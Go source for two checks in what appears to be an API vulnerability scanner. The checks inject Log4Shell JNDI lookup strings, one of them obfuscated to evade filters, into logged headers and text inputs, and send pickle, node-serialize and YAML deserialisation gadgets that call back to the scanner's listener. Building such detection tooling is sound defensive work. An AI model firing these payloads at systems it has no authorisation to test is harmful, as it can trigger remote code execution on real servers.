package check

import (
	"context"
	"fmt"
	"regexp"
	"strings"
	"time"

	"github.com/crenel-project/crenel/internal/scan/graph"
	"github.com/crenel-project/crenel/internal/scan/scenario"
	"github.com/crenel-project/crenel/internal/scan/world"
)

var (
	_ = register(&Check{
		ID: "log-lookup", Title: "What is logged is worked out, and calls out",
		OWASP: "API8:2023", CWE: "CWE-917", WSTG: "WSTG-INPV-18",
		CVSS:  "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N",
		About: "Puts lookups of the directory kind (${jndi:ldap://…}, CVE-2021-44228 and its like), at an address of the scanner's own listener, into texts and into the headers that are logged.",
		Proof: "The target called that address by LDAP or HTTP, which nobody else knows, twice in two runs. Controls: the same text without the lookup calls nobody.",
		Fix:   "Take log4j-core 2.17.1 or newer, or remove JndiLookup; never let what is logged be worked out.",
		Mode:  Default, Dirty: true,
		Run: logLookup,
	})
	_ = register(&Check{
		ID: "deserialization", Title: "An input is made into objects, and runs code",
		OWASP: "API8:2023", CWE: "CWE-502", WSTG: "WSTG-INPV-11",
		CVSS:  "CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N",
		About: "Puts serialised objects (Python pickle and YAML, node-serialize, SnakeYAML), each of which does nothing but call the scanner's listener, into what takes such data: by its name, its type, or what it holds.",
		Proof: "The target called that address, which nobody else knows, twice in two runs. Controls: the bare address in the same place calls nobody.",
		Fix:   "Take data formats that hold data alone (JSON with a schema; yaml.safe_load), never ones that name code; sign what has to come back.",
		Mode:  Default, Dirty: true,
		Run: deserialization,
	})
)

// jndi is the lookup, plain and as filters overlook it; %s is the listener's host and key.
var jndi = []string{"${jndi:ldap://%s}", "${${lower:j}ndi:${lower:l}dap://%s}"}

// loggedHeaders are what servers log of requests.
var loggedHeaders = []string{"User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version", "Accept-Language"}

// soon is how long what one request makes the target call is waited for.
const soon = 400 * time.Millisecond

func logLookup(ctx context.Context, p *Probe) error {
	if p.Listener == nil {
		return nil
	}
	bare := func(address string) string {
		_, rest, _ := strings.Cut(address, "://")
		return rest
	}
	// All inputs and headers of an operation at once: few programs do it, and one
	// call tells whether this one does.
	type sent struct {
		op      *graph.Op
		call    *world.Call
		address string
	}
	var list []sent
	for _, op := range p.Ops() {
		call, base, err := p.working(ctx, op)
		if err != nil {
			return err
		}
		if call == nil || base.Status == 429 || len(list) >= 60 {
			continue
		}
		address := p.Listener.Address()
		text := strings.ReplaceAll(jndi[1], "%s", bare(address))
		c := call
		for _, in := range op.Inputs {
			if takesText(in) && in.In != "path" && !identifies(op, in) && in.Format == "" && !op.Has(graph.Register) {
				c = c.With(in.Where(), jsonString(text))
			}
		}
		r, err := p.World.Request(c)
		if err != nil {
			continue
		}
		for _, h := range loggedHeaders {
			r.Set(h, text)
		}
		p.Note(op, Clean)
		if _, err := p.Do(ctx, call.As, r); err != nil {
			return err
		}
		list = append(list, sent{op, call, address})
	}
	if len(list) > 0 {
		p.Listener.Called(ctx, list[len(list)-1].address, soon)
	}
	for _, s := range list {
		if len(p.Listener.Hits(s.address)) == 0 {
			continue
		}
		if done, err := p.lookedUp(ctx, s.op, s.call); err != nil || done {
			return err // one log is behind all operations
		}
	}
	return nil
}

// lookedUp finds the input or the header that is logged, and proves it.
func (p *Probe) lookedUp(ctx context.Context, op *graph.Op, call *world.Call) (bool, error) {
	prove := func(where string, write func(text string) (scenario.Step, error)) (bool, error) {
		for _, form := range jndi {
			var l steps
			plain, err := write("${listener.none}")
			plain.ID, plain.Part, plain.Note, plain.Expect = "plain", scenario.Control, "the address alone is called by nobody", []scenario.Expect{{Status: "any"}, {Uncalled: "none", By: soon}}
			l.add(plain, err)
			st, err := write(strings.ReplaceAll(form, "%s", "${listener.call.host}/${key}"))
			st.ID, st.Part, st.Note = "attack", scenario.Attack, "in a lookup it is called"
			st.Compute = []scenario.Compute{{Set: "key", Do: "text.after", Args: map[string]string{"text": "${listener.call}", "last": "/"}}}
			st.Expect = []scenario.Expect{{Status: "any"}, {Called: "call", By: 2 * time.Second}}
			l.add(st, err)
			if l.err != nil {
				return false, nil //nolint:nilerr // a call that cannot be written as a step proves nothing
			}
			ok, err := p.Prove(ctx, Hypothesis{
				Op: op, Where: where, Title: fmt.Sprintf("%s %s: what is logged of %s is worked out", op.Method, op.Path, where),
				Description: "A lookup in what is logged makes the server call an address that the caller names, and what is answered there may be run.",
				Scenario:    &scenario.Scenario{Name: "a lookup in the log", Steps: l.list},
			})
			if err != nil || ok {
				return ok, err
			}
		}
		return false, nil
	}
	for _, h := range loggedHeaders {
		ok, err := prove("header."+h, func(text string) (scenario.Step, error) {
			st, err := p.World.Step(call, call.Renew("look"))
			if err == nil {
				st.Send.Header = append(st.Send.Header, scenario.Pair{Name: h, Value: text})
			}
			return st, err
		})
		if err != nil || ok {
			return ok, err
		}
	}
	for _, in := range op.Inputs {
		if !takesText(in) || in.In == "path" || identifies(op, in) || in.Format != "" {
			continue
		}
		ok, err := prove(in.Where(), func(text string) (scenario.Step, error) {
			bind := call.Renew("look")
			bind[in.Where()] = jsonString(text)
			return p.World.Step(call, bind)
		})
		if err != nil || ok {
			return ok, err
		}
	}
	return false, nil
}

// gadgets are serialised objects that call an address: what makes the text of the address.
var gadgets = []struct {
	what  string
	named *regexp.Regexp // inputs in which it is tried
	do    string         // a function of scenarios
}{
	{"Python pickle", reSerial, "gadget.pickle"},
	{"node-serialize", reSerial, "gadget.node"},
	{"node-serialize in base64", reSerial, "gadget.node64"},
	{"Python YAML", reDocument, "gadget.pyyaml"},
	{"SnakeYAML", reDocument, "gadget.snakeyaml"},
}

var (
	reSerial   = regexp.MustCompile(`(?i)serial|pickle|object|state|session|data|payload|blob|cookie|token|import|backup|restore|preference|settings|profile|cart|dump|marshal|content|body|input`)
	reDocument = regexp.MustCompile(`(?i)ya?ml|config|document|manifest|import|template|spec|definition|data|content|settings|input|file|body`)
	reMagic    = regexp.MustCompile(`^(gAS|gAR|gAN|KGRw|rO0AB|AAEAAAD/////|BAh|Tz[a-z0-9]+|YTo|O:\d+:"|a:\d+:\{)|_\$\$ND_FUNC\$\$_`)
)

func deserialization(ctx context.Context, p *Probe) error {
	if p.Listener == nil {
		return nil
	}
	return Each(ctx, p, p.Ops(), func(ctx context.Context, op *graph.Op) error {
		if op.Has(graph.Login) || op.Has(graph.Register) || op.Has(graph.Payment) {
			return nil
		}
		call, base, err := p.working(ctx, op)
		if err != nil || call == nil || base.Status == 429 || base.Status == 401 || base.Status == 403 {
			return err
		}
		yaml := strings.Contains(call.Media, "yaml")
		for _, in := range op.Inputs {
			if in.In == "header" || in.In == "path" || in.Type == "integer" || in.Type == "number" || in.Type == "boolean" || in.Meaning == graph.MeansPassword || in.Meaning == graph.MeansCSRF {
				continue
			}
			s := slotOf(op, in, call, base)
			for _, g := range gadgets {
				if !g.named.MatchString(in.Name) && !reMagic.MatchString(s.value) && in.Format != "byte" && !yaml {
					continue
				}
				p.Note(op, Clean)
				if done, err := p.gadget(ctx, s, g.what, g.do); err != nil || done {
					return err
				}
			}
		}
		return nil
	})
}

func (p *Probe) gadget(ctx context.Context, s *slot, what, do string) (bool, error) {
	address := p.Listener.Address()
	v, err := scenario.Call(do, map[string]string{"url": address})
	if err != nil {
		return false, fmt.Errorf("making a serialised object: %w", err)
	}
	x, err := p.send(ctx, s.with(scenario.Plain(v)))
	if err != nil || x.Status == 429 || x.Status == 401 || x.Status == 403 {
		return false, err
	}
	if !p.Listener.Called(ctx, address, soon/2) {
		return false, nil
	}
	var l steps
	l.add(p.slotStep(s, "plain", scenario.Control, "the bare address is called by nobody", "${listener.none}", scenario.Expect{Status: "any"}, scenario.Expect{Uncalled: "none", By: soon}))
	st, err := p.slotStep(s, "attack", scenario.Attack, "a serialised object that calls it is made, and calls", "${gadget}", scenario.Expect{Status: "any"}, scenario.Expect{Called: "call", By: 3 * time.Second})
	st.Compute = []scenario.Compute{{Set: "gadget", Do: do, Args: map[string]string{"url": "${listener.call}"}}}
	l.add(st, err)
	return p.injected(ctx, s, "unsafe deserialisation ("+what+")", "What the input holds is made into objects, and code that it names is run: here, a call of an address.", &l)
}
